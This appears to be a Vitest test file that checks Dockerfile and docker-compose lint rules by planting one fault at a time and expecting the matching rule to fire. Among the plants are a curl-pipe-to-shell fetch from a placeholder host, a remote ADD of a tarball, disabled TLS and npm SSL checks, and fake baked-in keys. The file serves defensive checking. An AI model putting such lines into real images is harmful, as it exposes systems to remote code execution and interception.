/** The image, its packages and the compose file, judged by the rules of `image-rules.ts`; and each single fault, noticed. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Files, RuleName } from './image-rules';
import { brokenBy, RULES } from './image-rules';

const read = (name: string) => readFileSync(join(__dirname, '../..', name), 'utf8');
const FILES: Files = {
  dockerfile: read('Dockerfile'),
  entry: read('image/start.sh'),
  ignore: read('.dockerignore'),
  compose: read('docker-compose.yml'),
  manifest: read('package.json'),
  lock: read('package-lock.json'),
};

type Plant = [breaks: RuleName, what: string, file: keyof Files, from: string | RegExp, to: string];

const END = 'COPY image/start.sh ./\nUSER node\n';
const DEPENDENCIES = '"dependencies": {';
const PLANTS: Plant[] = [
  ['base', 'the newest of everything', 'dockerfile', /node:22-bookworm-slim/g, 'node:latest'],
  ['base', 'a system without glibc', 'dockerfile', /node:22-bookworm-slim/g, 'node:22-alpine'],
  [
    'base',
    'another one to run than to build',
    'dockerfile',
    'FROM ${NODE_IMAGE}\n# The slim',
    'FROM node:24-bookworm-slim\n# The slim',
  ],
  ['base', 'somebody else’s', 'dockerfile', /node:22/g, 'example.com/node:22'],
  ['base', 'a digest that is cut off', 'dockerfile', '-bookworm-slim', '-bookworm-slim@sha256:0123abcd'],
  [
    'base',
    'the same one by its name, whatever the argument says',
    'dockerfile',
    'FROM ${NODE_IMAGE} AS packages',
    'FROM node:22-bookworm-slim AS packages',
  ],
  [
    'base',
    'an argument of one stage alone',
    'dockerfile',
    /ARG NODE_IMAGE=.*\n\nFROM .* AS tools\n/,
    'FROM ${NODE_IMAGE} AS tools\nARG NODE_IMAGE=node:22-bookworm-slim\n',
  ],
  ['authorities', 'none', 'dockerfile', 'ca-certificates', 'tzdata'],
  ['health', 'nobody asks', 'dockerfile', 'HEALTHCHECK', 'LABEL health'],
  ['user', 'none but the simulator’s', 'dockerfile', /USER node\n(?=# An address)/, ''],
  ['user', 'root', 'dockerfile', END, END.replace('node', 'root')],
  ['user', 'root by its number', 'dockerfile', END, END.replace('node', '0:0')],
  ['user', 'root in the end', 'dockerfile', '# Exec form', 'USER root\n# Exec form'],
  [
    'locked packages',
    'whatever is newest',
    'dockerfile',
    'npm ci --omit=dev',
    'npm install --omit=dev && npm ci --omit=dev',
  ],
  ['locked packages', 'one more', 'dockerfile', '&& node lib', '&& npx --yes esbuild && node lib'],
  ['no scripts of packages', 'while building', 'dockerfile', 'npm ci --ignore', 'npm ci && true --ignore'],
  ['no scripts of packages', 'for the image', 'dockerfile', '--omit=dev --ignore-scripts', '--omit=dev'],
  ['no development packages', 'all of them', 'dockerfile', 'npm ci --omit=dev', 'npm ci'],
  [
    'no development packages',
    'those of the build',
    'dockerfile',
    '--from=packages /app/node_modules',
    '--from=build /app/node_modules',
  ],
  [
    'no development packages',
    'one of the build, beside the others',
    'dockerfile',
    END,
    `COPY --from=tools /app/node_modules/typescript lib/typescript\n${END}`,
  ],
  ['few packages', 'the simulator’s', 'manifest', DEPENDENCIES, `${DEPENDENCIES} "fastify": "5.12.8",`],
  [
    'few packages',
    'those of tests',
    'manifest',
    DEPENDENCIES,
    `${DEPENDENCIES} "@temporalio/testing": "1.24.0",`,
  ],
  [
    'few packages',
    'those of a terminal',
    'manifest',
    DEPENDENCIES,
    `${DEPENDENCIES} "pino-pretty": "13.2.0",`,
  ],
  [
    'few packages',
    'a lockfile that is older',
    'lock',
    /(?<="node_modules\/fastify": \{\s+"version": ".*",\s+"integrity": ".*",\s+)"dev": true,/,
    '',
  ],
  [
    'no simulator',
    'compiled with the rest',
    'dockerfile',
    'COPY src src',
    'COPY simulator simulator\nCOPY src src',
  ],
  [
    'no simulator',
    'compiled before the rest',
    'dockerfile',
    'COPY tsconfig.json tsconfig.build.json ./',
    'COPY tsconfig.json tsconfig.build.json ./\nCOPY simulator simulator',
  ],
  ['no simulator', 'copied', 'dockerfile', END, `COPY --from=simulator /app/lib lib/extra\n${END}`],
  ['no simulator', 'copied by its number', 'dockerfile', END, `COPY --from=2 /app/lib lib/extra\n${END}`],
  ['no simulator', 'the rest built on it', 'dockerfile', 'FROM tools AS build', 'FROM simulator AS build'],
  [
    'no simulator',
    'run in the worker’s place',
    'compose',
    '  worker:\n    build: .',
    '  worker:\n    build:\n      context: .\n      target: simulator',
  ],
  ['no simulator', 'run from the image that has none', 'compose', '      target: simulator\n', ''],
  ['nothing baked in', 'a key', 'dockerfile', END, `ENV HUAWEICLOUD_SDK_SK=abc\n${END}`],
  ['nothing baked in', 'a key in the older form', 'dockerfile', END, `ENV TEMPORAL_API_KEY abc\n${END}`],
  [
    'nothing baked in',
    'a key as an argument of the build',
    'dockerfile',
    END,
    `ARG HW_USER_PASSWORD\n${END}`,
  ],
  ['nothing baked in', 'verification off', 'dockerfile', END, `ENV NODE_TLS_REJECT_UNAUTHORIZED=0\n${END}`],
  ['nothing baked in', 'Temporal without TLS', 'dockerfile', END, `ENV TEMPORAL_TLS=false\n${END}`],
  ['nothing baked in', 'a CA of one’s own', 'dockerfile', END, `ENV NODE_EXTRA_CA_CERTS=/app/ca.pem\n${END}`],
  ['nothing baked in', 'keys in the clear', 'dockerfile', END, `ENV A=b ECS_NICS_ALLOW_HTTP=true\n${END}`],
  [
    'nothing baked in',
    'packages from whoever answers',
    'dockerfile',
    'npm ci --ignore',
    'npm ci --strict-ssl=false --ignore',
  ],
  [
    'no foreign programs',
    'a script off the net',
    'dockerfile',
    '&& node lib',
    '&& curl -fsSL https://x.test/i | sh && node lib',
  ],
  [
    'no foreign programs',
    'a script of the other kind',
    'dockerfile',
    '&& node lib',
    '&& cat i | bash && node lib',
  ],
  [
    'no foreign programs',
    'a file by its address',
    'dockerfile',
    END,
    `ADD https://x.test/a.tgz /app/\n${END}`,
  ],
  [
    'no foreign programs',
    'out of somebody else’s image',
    'dockerfile',
    END,
    `COPY --from=example.com/tools:1.0.0 /bin/tool /bin/\n${END}`,
  ],
  ['signals', 'a shell', 'dockerfile', 'CMD ["node", "lib/worker.js"]', 'CMD node lib/worker.js'],
  ['signals', 'npm', 'dockerfile', 'CMD ["node", "lib/worker.js"]', 'CMD ["npm", "run", "worker"]'],
  ['signals', 'a shell before it', 'dockerfile', END, `${END}ENTRYPOINT ["sh", "-c"]\n`],
  ['signals', 'a shell that stays', 'entry', 'exec "$@"', '"$@"'],
  ['signals', 'an entry in the form of a shell', 'dockerfile', /ENTRYPOINT .*/, 'ENTRYPOINT /app/start.sh'],
  ['heap', 'fixed', 'dockerfile', END, `${END}ENV NODE_OPTIONS=--max-old-space-size=1024\n`],
  [
    'signals',
    'the wrong program',
    'dockerfile',
    'CMD ["node", "lib/worker.js"]',
    'CMD ["node", "lib/starter.js"]',
  ],
  ['signals', 'a signal that kills', 'dockerfile', END, `STOPSIGNAL SIGKILL\n${END}`],
  ['production', 'not said', 'dockerfile', 'ENV NODE_ENV=production\n', ''],
  ['bundle', 'not built', 'dockerfile', /\\\n && node lib\/worker\/build-bundle.js/, ''],
  [
    'bundle',
    'built where it is not copied from',
    'dockerfile',
    '--from=build /app/lib',
    '--from=packages /app/lib',
  ],
  ['probes', 'on loopback', 'dockerfile', 'ADDRESS=0.0.0.0:8081', 'ADDRESS=127.0.0.1:8081'],
  ['probes', 'a port that is not told', 'dockerfile', 'EXPOSE 8081 9464', 'EXPOSE 8081'],
  ['context', 'all but some', 'ignore', /^[^]*$/, 'node_modules\n.env\n'],
  ['context', 'history', 'ignore', '!src', '!src\n!.git'],
  ['context', 'tests', 'ignore', '!src', '!src\n!test'],
  ['context', 'everything after all', 'ignore', '!src', '!src\n!*'],
  ['little copied', 'everything', 'dockerfile', 'COPY src src', 'COPY . .'],
  ['little copied', 'tests', 'dockerfile', 'COPY src src', 'COPY src src\nCOPY test test'],
  ['little copied', 'the sources', 'dockerfile', END, `COPY src src\n${END}`],
  [
    'health checks',
    'none of the worker',
    'compose',
    /healthcheck:(?=[^]*?readyz)(?![^]*healthcheck:)/,
    'nocheck:',
  ],
  ['health checks', 'whether the process is there', 'compose', '/readyz', '/livez'],
  ['time to drain', 'as docker does', 'compose', /stop_grace_period: .*\n/, ''],
  [
    'time to drain',
    'no longer than the grace',
    'compose',
    'stop_grace_period: 30s',
    'stop_grace_period: 20s',
  ],
  ['ports of this machine', 'for everybody', 'compose', "'127.0.0.1:7233:7233'", "'7233:7233'"],
  [
    'ports of this machine',
    'for everybody, in other words',
    'compose',
    "'127.0.0.1:8233:8233'",
    "'0.0.0.0:8233:8233'",
  ],
  ['known images', 'the newest', 'compose', 'temporal:1.9.1', 'temporal:latest'],
  ['known images', 'without a version', 'compose', 'temporal:1.9.1', 'temporal'],
  ['keys of the simulator only', 'a real one', 'compose', /_SK: .*/, '_SK: Zq8Real0Key'],
  [
    'keys of the simulator only',
    'a token',
    'compose',
    'ECS_NICS_ALLOW_HTTP',
    'HW_AUTH_TOKEN: MIIabc\n      ECS_NICS_ALLOW_HTTP',
  ],
];

function planted([, , file, from, to]: Plant): Files {
  return { ...FILES, [file]: FILES[file].replace(from, () => to) };
}

describe('the image', () => {
  it('breaks no rule', () => {
    expect(brokenBy(FILES)).toEqual([]);
  });

  it.each(PLANTS)('%s: %s', (...plant) => {
    const files = planted(plant);
    expect(files, 'the plant took').not.toEqual(FILES);
    expect(brokenBy(files)).toEqual([plant[0]]);
  });

  it('has a plant for every rule', () => {
    expect(new Set(PLANTS.map(([breaks]) => breaks))).toEqual(new Set(Object.keys(RULES)));
  });
});
